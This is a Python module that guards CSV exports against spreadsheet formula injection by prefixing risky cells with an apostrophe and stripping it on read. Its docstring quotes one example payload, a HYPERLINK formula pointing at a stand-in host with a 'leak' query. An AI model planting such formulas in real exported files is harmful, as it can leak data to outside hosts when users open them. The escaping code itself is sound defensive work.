"""Text cells in CSV that a spreadsheet will not run as formulas, and their exact text read back.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets: a sentence or title such as
`=HYPERLINK("http://x.example/?leak","click")` from a document would run when
the table is opened. As OWASP advises for CSV injection, such a cell gets a
`'` in front. Parquet keeps the exact text; readers of the CSV files in
extract (evaluate, review, changes) take the `'` off again.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula
RISKY_FIRST = frozenset("".join(FORMULA_STARTS)) | {"'"}  # a first character that may need the `'`
ESCAPED = re.compile(r"'+[=+\-@\t\r]")  # a cell csv_text wrote with its `'` in front


def csv_text(value: str | None) -> str | None:
    """A text cell a spreadsheet will not run: `'` before one that starts like a formula.

    Cells that already start with `'`s before such a character get one more,
    so `read_csv_text` gives back the exact text.
    """
    if value and value[0] in RISKY_FIRST and value.lstrip("'").startswith(FORMULA_STARTS):  # most cells: one test
        return f"'{value}"
    return value


def read_csv_text(cell: str) -> str:
    """The exact text of a CSV cell that `csv_text` wrote."""
    return cell[1:] if cell[:1] == "'" and ESCAPED.match(cell) else cell  # the first test spares most cells the regex
